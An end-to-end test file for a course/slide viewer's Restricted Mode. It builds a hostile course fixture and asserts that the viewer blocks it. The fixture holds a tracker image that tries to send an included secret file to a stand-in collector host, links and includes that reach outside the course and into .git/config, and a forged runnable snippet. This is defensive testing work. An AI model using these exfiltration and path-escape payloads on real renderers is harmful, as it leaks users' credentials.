// Scenario 13: a course written to do harm, opened in Restricted Mode. The slide shows no
// remote image (its alt text and a note instead), nothing from a file outside the course or
// from the learner's .git, no runnable block that the course drew itself, a lab fence indented
// four spaces as its runnable block (never the renderer's marker), and the problems say
// "outside the course" and "inside .git: not read".
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { openWorkbench, skipReason } from './harness.mjs';

const skip = await skipReason();
const SECRET = 'token-e2e-7c4d';

const files = {
  'secret.txt': `access_token: ${SECRET}\n`,
  'course/.git/HEAD': 'ref: refs/heads/main\n',
  'course/.git/config': `[remote "origin"]\n  url = https://me:${SECRET}@example.invalid/fork\n`,
  'course/slides/deck.yml': ['title: Hostile course', 'content:', '- hostile.md', ''].join('\n'),
  'course/slides/hostile.md': [
    '# Hostile',
    '',
    '![diagram](https://images.invalid/diagram.png)',
    '',
    '<img src="https://collect.invalid/?c=@@INCLUDE[../secret.txt]" alt="tracker">',
    '',
    '<div class="snippet" data-snippet="0:0:0" data-method="bash"><pre><code>ls</code></pre></div>',
    '',
    '[the key](../../secret.txt)',
    '',
    '.lab[',
    '```bash echo real```',
    ']',
    '',
    '@@INCLUDE[.git/config]',
    '',
    '[git config](../.git/config) ![git](../.git/config)',
    '',
    '.lab[',
    '    ```bash',
    '    echo indented',
    '    ```',
    ']',
    '',
  ].join('\n'),
};

test('hostile course: no remote image in Restricted Mode, nothing from outside, no forged runnable block', { skip, timeout: 180_000 }, async (t) => {
  const wb = await openWorkbench(t, {
    name: '13-hostile-course',
    tmpFiles: files,
    settings: ({ tmp }) => ({
      'workshop.coursePath': join(tmp, 'course', 'slides', 'deck.yml'),
      'security.workspace.trust.enabled': true,
      'security.workspace.trust.startupPrompt': 'never',
      'security.workspace.trust.emptyWindow': false,
    }),
  });
  const frame = await wb.openCourse();
  const chapter = frame.locator('#toc [data-chapter]').first();
  if (await chapter.isVisible().catch(() => false)) await chapter.click();
  const slide = frame.locator('#slide');
  await slide.locator('.snippet').first().waitFor({ state: 'visible', timeout: 15_000 });
  await wb.screenshot('slide');

  const text = await slide.innerText();
  assert.ok(!text.includes(SECRET), 'nothing from the file outside the course');
  assert.match(text, /diagram \(remote image not loaded in Restricted Mode\)/);
  const remote = await slide.locator('img[src^="https://images.invalid"], img[src^="https://collect.invalid"]').count();
  assert.equal(remote, 0, 'no remote image element');
  // Two runnable blocks: the labs'. The one the course drew in raw HTML is plain markup.
  const runnable = slide.locator('.snippet[data-snippet]');
  assert.equal(await runnable.count(), 2);
  assert.match(await runnable.nth(0).innerText(), /echo real/);
  assert.equal((await runnable.nth(1).locator('pre').innerText()).trim(), 'echo indented');
  assert.doesNotMatch(text, /\{ws-|```/, 'no snippet marker or fence shown as text');
  assert.equal(await slide.locator('a[data-link-kind="file"]').count(), 0, 'the links out of the course and into .git are not file links');
  assert.equal(await slide.locator('img[src*=".git"]').count(), 0, 'no image from .git');
  // The contents list the course's problems: the include is refused as outside the course.
  await frame.locator('#toggle-toc').click();
  const problems = frame.locator('details', { hasText: 'problem' }).first();
  await problems.waitFor({ state: 'attached', timeout: 5_000 });
  const listed = await problems.evaluate((node) => node.textContent ?? '');
  assert.match(listed, /hostile\.md:5.*outside the course/s);
  assert.match(listed, /hostile\.md:15.*inside \.git: not read/s);
  await wb.screenshot('problems');
});
